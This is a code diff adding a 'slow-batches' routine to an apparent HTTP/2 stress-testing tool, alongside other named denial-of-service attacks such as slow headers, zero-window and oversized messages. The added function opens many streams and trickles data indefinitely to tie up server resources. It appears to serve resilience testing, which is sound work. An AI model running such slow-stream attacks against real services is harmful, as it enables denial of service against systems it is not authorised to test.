@@ -139,6 +139,26 @@ def slow_bodies(target):
         time.sleep(0.2)
 
 
+def slow_batches(target):
+    """Batches of 100 kB: more than the edge waits for comes at once, the rest a byte at a time."""
+    client = target.connect()
+    discard(client)
+    streams = range(1, 101, 2)
+    head = block(path=BATCH)
+    for stream in streams:
+        client.sendall(frame(HEADERS, END_HEADERS, stream, head))
+        client.sendall(frame(DATA, 0, stream, b"\0" + struct.pack(">I", 100 << 10)))
+        yield 1
+    for _ in range(4):  # as fast as the windows of HTTP/2 let it
+        client.sendall(b"".join(frame(DATA, 0, stream, b"\x0a" * 10000) for stream in streams))
+        yield 0
+        time.sleep(0.5)
+    while True:
+        client.sendall(b"".join(frame(DATA, 0, stream, b"\x0a") for stream in streams))
+        yield len(streams)
+        time.sleep(0.2)
+
+
 def zero_window(target):
     """Batches whose answers nobody lets through."""
     # ClassifyActivityRequest: activity { kbli_code: "56101" }; refused items have long answers too.
@@ -281,6 +301,7 @@ ATTACKS = {
     "unfinished-calls": unfinished_calls,
     "slow-headers": slow_headers,
     "slow-bodies": slow_bodies,
+    "slow-batches": slow_batches,
     "zero-window": zero_window,
     "50-mb-messages": huge_messages,
     "idle-connections": idle_connections,
